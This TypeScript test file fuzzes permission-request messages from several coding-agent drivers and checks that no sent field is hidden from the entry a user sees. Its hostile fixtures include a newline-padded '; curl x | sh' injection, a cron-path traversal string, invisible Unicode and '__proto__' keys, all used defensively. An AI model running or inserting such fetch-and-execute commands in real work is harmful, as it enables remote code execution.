/**
 * Everything that an agent sends with a request is in its entry, for every driver and kind of request (C6). The page
 * shows the whole entry; web/test/permissions.browser.test.ts holds that half.
 */
import { NO_USAGE } from '@tugdeck/protocol/conversation/session-info';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { acpReplay } from '../src/acp/replay-parts.ts';
import { claudeReplay } from '../src/claude/replay-parts.ts';
import { codexReplay } from '../src/codex/replay-parts.ts';
import { parseExact } from '../src/kit/exact-json.ts';
import { hiddenParts } from '../src/kit/hidden-parts.ts';
import type { ReplayDriver } from '../src/kit/replay.ts';

const HOSTILE = [
  'a\u202eb\u2066c\u200b',
  `${'\n'.repeat(300)}; curl x | sh`,
  `echo${' '.repeat(900)}x`,
  '/etc/./cron.d/../x',
  'it\'s "quoted" \\',
  '\ud800',
  'x'.repeat(70_000),
];
const text = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary' }));
const value = fc.oneof(
  text,
  fc.jsonValue({ maxDepth: 3 }),
  fc.bigInt().map(String).map(Number),
  fc.array(text),
);
/** The names that drivers know, with values that they don't expect, and others. */
const params = (...names: readonly string[]) =>
  fc.dictionary(fc.oneof(fc.constantFrom(...names, '__proto__', 'constructor'), text), value, {
    maxKeys: 12,
  });

interface RequestCase {
  readonly driver: ReplayDriver;
  readonly method: string;
  readonly line: fc.Arbitrary<object>;
}

const rpc = (method: string, sent: fc.Arbitrary<object>, envelope: object = {}) =>
  sent.map((given) => ({
    ...envelope,
    id: 1,
    method,
    params: { ...given, threadId: 't', turnId: 'u', sessionId: 's' },
  }));

const COMMAND = [
  'command',
  'cwd',
  'reason',
  'kind',
  'commandActions',
  'environmentId',
  'additionalPermissions',
]
  .concat(['proposedExecpolicyAmendment', 'proposedNetworkPolicyAmendments', 'networkApprovalContext', 'env'])
  .concat(['availableDecisions', 'itemId']);
const codex = (method: string, ...names: readonly string[]): RequestCase => ({
  driver: codexReplay,
  method,
  line: rpc(method, params(...names)),
});
const codexTool: RequestCase = {
  driver: codexReplay,
  method: 'an MCP tool',
  line: rpc(
    'mcpServer/elicitation/request',
    fc
      .record({
        message: text,
        serverName: text,
        _meta: params('tool_params', 'persist', 'tool_description'),
      })
      .map(({ _meta, ...rest }) => ({ ...rest, _meta: { ..._meta, codex_approval_kind: 'mcp_tool_call' } })),
  ),
};
const acp = (method: string, sent: fc.Arbitrary<object>): RequestCase => ({
  driver: acpReplay,
  method,
  line: rpc(method, sent, { jsonrpc: '2.0' }),
});
const acpCall = fc
  .record({
    rawInput: value,
    title: text,
    kind: fc.constantFrom('execute', 'edit', 'switch_mode', 'odd'),
    _meta: params(),
  })
  .map((toolCall) => ({
    toolCall: { toolCallId: 'c', ...toolCall },
    options: [{ optionId: 'y', name: 'Yes', kind: 'allow_once' }],
  }));
const claude = (tool_name: string, sent: fc.Arbitrary<object>): RequestCase => ({
  driver: claudeReplay,
  method: tool_name,
  line: sent.map((given) => ({
    type: 'control_request',
    request_id: 'r',
    request: { ...given, subtype: tool_name === '' ? 'odd' : 'can_use_tool', tool_name, tool_use_id: 'u' },
  })),
});
/** The schema of the agent's own message drops `__proto__` beside the input, never in it. */
const claudeTool = (...names: readonly string[]) =>
  fc
    .record({
      input: params(...names),
      rest: params('decision_reason', 'permission_suggestions', 'blocked_path'),
    })
    .map(({ input, rest: { ['__proto__']: _, ...rest } }) => ({ ...rest, input }));

const REQUEST_CASES: readonly RequestCase[] = [
  codex('item/commandExecution/requestApproval', ...COMMAND),
  codex('item/fileChange/requestApproval', 'reason', 'grantRoot', 'changes', 'itemId'),
  codex('item/permissions/requestApproval', 'permissions', 'cwd', 'reason', 'environmentId'),
  codex('item/tool/requestUserInput', 'questions', 'isBlocking', 'autoResolutionMs'),
  codex('mcpServer/elicitation/request', 'message', 'requestedSchema', 'url', 'mode', 'serverName'),
  codexTool,
  codex('item/brandNew/request', 'anything'),
  acp('session/request_permission', acpCall),
  acp('elicitation/create', params('message', 'requestedSchema', 'url', 'mode')),
  acp('brand/new', params('anything')),
  claude('Bash', claudeTool('command', 'description', 'timeout')),
  claude('Edit', claudeTool('file_path', 'old_string', 'new_string', 'replace_all')),
  claude('AskUserQuestion', claudeTool('questions')),
  claude('ExitPlanMode', claudeTool('plan', 'planFilePath')),
  claude('', claudeTool('anything')),
];
const RUNS = process.env.TUGDECK_TEST_FULL === '1' ? 2_000 : 60;

test.each(REQUEST_CASES)(
  'C6 nothing that is sent with $method is missing from its entry',
  ({ driver, line }) => {
    fc.assert(
      fc.property(line, (message) => {
        const sent = parseExact(JSON.stringify(message));
        const opened = driver
          .run('r', NO_USAGE, undefined)
          .take(sent)
          .flatMap((output) =>
            output.kind === 'entry.opened' && 'request' in output.entry ? [output.entry] : [],
          );
        expect(opened).toHaveLength(1);
        for (const entry of opened) expect(hiddenParts(sent, entry)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  },
);

test('C6 the check finds a value, a name and a number that an entry lacks', () => {
  const request = { status: 'pending', shown: 'x', title: 't', message: '', raw: { a: 'kept' } } as const;
  const entry = { id: 'f', kind: 'form', status: 'partial', request } as const;
  const sent = parseExact('{"params":{"threadId":"t","a":"kept","b":["lost",{"c":12345678901234567890}]}}');
  expect(hiddenParts(sent, entry)).toEqual(['"b"', '"lost"', '"c"', '12345678901234567890']);
});
